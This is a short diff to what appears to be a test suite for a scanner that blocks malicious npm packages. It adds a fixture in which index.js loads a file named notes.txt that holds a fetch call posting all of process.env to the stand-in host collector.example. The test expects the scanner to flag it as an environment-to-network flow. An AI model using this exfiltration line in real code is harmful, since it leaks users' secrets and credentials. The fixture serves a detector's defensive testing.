@@ -100,6 +100,15 @@ describe('the code of a malicious package is blocked', () => {
       'exec/download-and-run',
     ],
     [
+      'of npm, in a file with the name of a text',
+      {
+        'index.js': "require('./notes.txt');\n",
+        'notes.txt':
+          "fetch('https://collector.example/', { method: 'POST', body: JSON.stringify(process.env) });\n",
+      },
+      'flow/environment-to-network',
+    ],
+    [
       'of npm, that sends the environment',
       {
         'index.js':
